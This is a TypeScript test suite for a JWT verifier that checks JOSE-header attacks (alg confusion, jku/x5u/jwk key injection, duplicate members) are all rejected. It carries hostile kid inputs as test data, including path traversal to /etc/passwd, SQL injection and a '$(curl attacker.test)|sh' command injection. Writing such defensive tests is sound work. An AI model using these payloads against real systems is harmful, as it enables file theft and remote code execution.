// Attack family: the JOSE header (RFC 7515 §4, RFC 8725 §3). Over real HTTP: status, code,
// WWW-Authenticate, body, and the handler never ran.
// Each rule's own cases are the verifier rules' (test/verifier-rules/); this file keeps the
// hostile spellings they do not list (CONTRIBUTING.md, test layers).
import { createServer, type Server } from 'node:http'
import type { AddressInfo } from 'node:net'
import { generateKeyPairSync } from 'node:crypto'
import type { TestKey } from '@keyward/test-utils'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { selfSignedCertificate, signSegments } from './support/forge.js'
import { b64, startScenario, type Scenario } from './support/scenario.js'

/** A server an attacker controls: it serves its own JWKS and counts every connection. */
interface AttackerServer {
  readonly url: string
  readonly connections: number
  close(): Promise<void>
}

async function startAttackerServer(jwks: unknown): Promise<AttackerServer> {
  let connections = 0
  const server: Server = createServer((_req, res) => {
    res.writeHead(200, { 'content-type': 'application/json' })
    res.end(JSON.stringify(jwks))
  })
  server.on('connection', () => {
    connections++
  })
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve))
  const { port } = server.address() as AddressInfo
  return {
    url: `http://127.0.0.1:${port}/jwks.json`,
    get connections() {
      return connections
    },
    close: () =>
      new Promise<void>((resolve) => {
        server.close(() => {
          resolve()
        })
        server.closeAllConnections()
      }),
  }
}

describe('attacks: JOSE header', () => {
  let s: Scenario
  let rsa: TestKey
  let ec: TestKey
  let attackerEc: TestKey
  beforeAll(async () => {
    s = await startScenario({ alg: 'RS256', extraKeys: ['ES256'] })
    rsa = s.issuer.signingKey
    ec = s.issuer.published.find((key) => key.alg === 'ES256') ?? rsa
    // Never published: the attacker's own key.
    attackerEc = await s.issuer.addKey({ alg: 'ES256', publish: false })
  })
  afterAll(async () => {
    await s.close()
  })

  it('accepts the untouched token (positive control)', async () => {
    await s.target.accept(s.issuer.mint())
  })

  describe('missing, non-string and near-miss alg', () => {
    it.each<[string, unknown]>([
      ['missing', undefined],
      ['null', null],
      ['a number', 256],
      ['an array', ['RS256']],
      ['an object', { name: 'RS256' }],
      ['true', true],
      ['empty', ''],
    ])('rejects an alg that is %s as algorithm_not_allowed', async (_name, alg) => {
      const token = s.issuer.mint({}, { header: { alg } })
      await s.target.reject(token, 'algorithm_not_allowed')
    })

    it.each([
      'rs256',
      'Rs256',
      'RS256 ',
      ' RS256',
      'RS-256',
      'RS256\u0000',
      'RS2560',
      'RSA256',
      'RS256K',
      'ES256K',
      'ＲＳ256',
      'HS256',
      'HS384',
      'HS512',
      'RSA-OAEP',
      'dir',
      'EdDSA448',
      'Ed448',
      '__proto__',
      'constructor',
      'toString',
    ])(
      'rejects the near-miss alg %j, signed with the real RS256 key, as algorithm_not_allowed',
      async (alg) => {
        await s.target.reject(
          s.issuer.mint({}, { alg, signWith: 'RS256' }),
          'algorithm_not_allowed',
        )
      },
    )
  })

  describe('allowed algorithms with the wrong key (RFC 8725 §3.1)', () => {
    it.each([
      ['PS256 over a key published for RS256', 'PS256', 'PS256'],
      ['RS384 over a key published for RS256', 'RS384', 'RS384'],
      ['ES256 naming the RSA key', 'ES256', undefined],
      ['EdDSA naming the RSA key', 'EdDSA', undefined],
    ] as const)('rejects %s as invalid_signature', async (_name, alg, signWith) => {
      const token =
        signWith === undefined
          ? s.issuer.mint({}, { key: rsa, alg, signWith: 'RS256' })
          : s.issuer.mint({}, { key: rsa, alg, signWith })
      await s.target.reject(token, 'invalid_signature')
    })

    it('rejects RS256 naming the EC key as invalid_signature', async () => {
      const token = s.issuer.mint({}, { key: rsa, kid: ec.kid })
      await s.target.reject(token, 'invalid_signature')
    })
  })

  describe('typ of other JWT kinds (RFC 8725 §3.11)', () => {
    it.each([
      ['a JWT authorization request (RFC 9101)', 'oauth-authz-req+jwt'],
      ['a client assertion', 'client-authentication+jwt'],
      ['a token-introspection response (RFC 9701)', 'token-introspection+jwt'],
      ['a JWE', 'JOSE+JSON'],
      ['an at+jwt near miss', 'at+jwt '],
      ['an at+jwt look-alike', 'at+jwt2'],
    ])('rejects %s as invalid_type', async (_name, typ) => {
      await s.target.reject(s.issuer.mint({}, { typ }), 'invalid_type')
    })

    it.each<[string, unknown]>([
      ['an array', ['at+jwt']],
      ['null', null],
    ])('rejects a typ that is %s as invalid_type', async (_name, typ) => {
      await s.target.reject(s.issuer.mint({}, { header: { typ } }), 'invalid_type')
    })
  })

  describe('crit, b64 and cty (RFC 7515 §4.1.11, RFC 7797, RFC 7519 §5.2)', () => {
    it.each<[string, Record<string, unknown>]>([
      [
        'an unknown critical extension',
        { crit: ['urn:example:must-understand'], 'urn:example:must-understand': true },
      ],
      ['an empty crit list', { crit: [] }],
      ['a crit that is a string', { crit: 'b64' }],
      ['crit null', { crit: null }],
      ['b64 false with crit', { b64: false, crit: ['b64'] }],
      ['b64 that is a string', { b64: 'false' }],
    ])('rejects %s as malformed_token', async (_name, header) => {
      await s.target.reject(s.issuer.mint({}, { header }), 'malformed_token')
    })

    it.each([
      ['cty JWT (a nested JWT)', 'JWT'],
      ['cty jwt in lower case', 'jwt'],
      ['cty application/jwt', 'application/jwt'],
    ])('rejects %s as invalid_type', async (_name, cty) => {
      const inner = s.issuer.mint()
      // The nested JWT is the payload, as RFC 7519 §5.2 defines it; the outer one is signed.
      const token = s.issuer.mint(
        {},
        { header: { cty }, rawPayload: JSON.stringify({ ...s.issuer.claims(), jwt: inner }) },
      )
      await s.target.reject(token, 'invalid_type')
    })

    it('rejects a cty that is not a string as invalid_type', async () => {
      await s.target.reject(s.issuer.mint({}, { header: { cty: 42 } }), 'invalid_type')
    })
  })

  describe('key material in the header is never used (RFC 8725 §3.10, CVE-2018-0114)', () => {
    it('ignores an embedded jwk: the attacker key it names signs, the token is rejected', async () => {
      const jwk = { ...attackerEc.publicJwk }
      await s.target.reject(s.issuer.mint({}, { key: attackerEc, header: { jwk } }), 'unknown_key')
      // Without a kid, only the issuer's ES256 key is a candidate, and it did not sign.
      await s.target.reject(
        s.issuer.mint({}, { key: attackerEc, kid: null, header: { jwk } }),
        'invalid_signature',
      )
    })

    it('never fetches jku or x5u: zero connections to the attacker server', async () => {
      const attacker = await startAttackerServer({ keys: [attackerEc.publicJwk] })
      try {
        for (const member of ['jku', 'x5u']) {
          await s.target.reject(
            s.issuer.mint({}, { key: attackerEc, header: { [member]: attacker.url } }),
            'unknown_key',
          )
          // With the attacker's kid copied from the real key, the real key fails to verify.
          await s.target.reject(
            s.issuer.mint({}, { key: attackerEc, kid: ec.kid, header: { [member]: attacker.url } }),
            'invalid_signature',
          )
        }
        expect(attacker.connections).toBe(0)
      } finally {
        await attacker.close()
      }
    })

    it('ignores x5c with a self-signed attacker certificate over the signing key', async () => {
      const { publicKey, privateKey } = generateKeyPairSync('ec', { namedCurve: 'P-256' })
      const certificate = selfSignedCertificate(publicKey, privateKey, s.issuer.issuer)
      const x5c = [certificate.toString('base64')]
      const attacker: TestKey = { ...attackerEc, privateKey, publicKey, kid: 'x5c-attacker' }
      await s.target.reject(
        s.issuer.mint({}, { key: attacker, kid: null, header: { x5c } }),
        'invalid_signature',
      )
      await s.target.reject(
        s.issuer.mint({}, { key: attacker, kid: ec.kid, header: { x5c, x5t: 'AAAA' } }),
        'invalid_signature',
      )
    })
  })

  describe('hostile kid values', () => {
    it.each([
      ['path traversal', '../../../../etc/passwd'],
      ['a file URL', 'file:///dev/random'],
      ['SQL injection', "' OR '1'='1' --"],
      ['a NoSQL operator as text', '{"$ne":null}'],
      ['command injection', '$(curl attacker.test)|sh'],
      ['a header-splitting attempt', 'k\r\nX-Injected: 1'],
      ['__proto__', '__proto__'],
      ['constructor', 'constructor'],
      ['hasOwnProperty', 'hasOwnProperty'],
      ['toString', 'toString'],
      ['an empty kid', ''],
    ])('rejects a kid that is %s, signed by the attacker, as unknown_key', async (_name, kid) => {
      await s.target.reject(s.issuer.mint({}, { key: attackerEc, kid }), 'unknown_key')
    })

    it.each<[string, unknown]>([
      ['an object', { toString: 'x' }],
      ['true', true],
    ])('rejects a kid that is %s as malformed_token', async (_name, kid) => {
      await s.target.reject(s.issuer.mint({}, { key: ec, header: { kid } }), 'malformed_token')
    })

    it('rejects a 100 KB kid as token_too_large under the default size cap', async () => {
      const target = await s.newTarget({ server: { maxHeaderSize: 256 * 1024 } })
      await target.reject(
        s.issuer.mint({}, { key: attackerEc, kid: 'k'.repeat(100 * 1024) }),
        'token_too_large',
      )
    })

    it('rejects a 100 KB kid as unknown_key when the size cap allows it, and logs it clipped', async () => {
      const target = await s.newTarget({
        maxTokenBytes: 256 * 1024,
        server: { maxHeaderSize: 256 * 1024 },
      })
      const kid = 'k'.repeat(100 * 1024)
      const seen = s.events.length
      await target.reject(s.issuer.mint({}, { key: attackerEc, kid }), 'unknown_key')
      const rejected = s.events.slice(seen).find((event) => event.type === 'token_rejected')
      expect(
        rejected?.type === 'token_rejected' ? rejected.kid?.length : undefined,
      ).toBeLessThanOrEqual(129)
    })
  })

  describe('duplicate header members (RFC 7515 §4, RFC 8259 §4)', () => {
    it.each([
      ['alg twice, none last', '{"alg":"RS256","alg":"none","kid":"%KID%"}'],
      ['alg twice through an escape', '{"alg":"RS256","\\u0061lg":"none","kid":"%KID%"}'],
      ['kid twice', '{"alg":"RS256","kid":"attacker","kid":"%KID%"}'],
      ['typ twice', '{"alg":"RS256","typ":"dpop+jwt","typ":"at+jwt","kid":"%KID%"}'],
    ])('rejects a validly signed header with %s as malformed_token', async (_name, text) => {
      const header = text.replaceAll('%KID%', rsa.kid)
      const token = signSegments(b64(header), b64(JSON.stringify(s.issuer.claims())), rsa)
      await s.target.reject(token, 'malformed_token')
    })

    it('rejects duplicate claims in a validly signed payload as malformed_token', async () => {
      const payload = JSON.stringify(s.issuer.claims({ scope: 'read:things' })).replace(
        /}$/,
        ',"scope":"admin"}',
      )
      await s.target.reject(s.issuer.mint({}, { rawPayload: payload }), 'malformed_token')
    })
  })
})
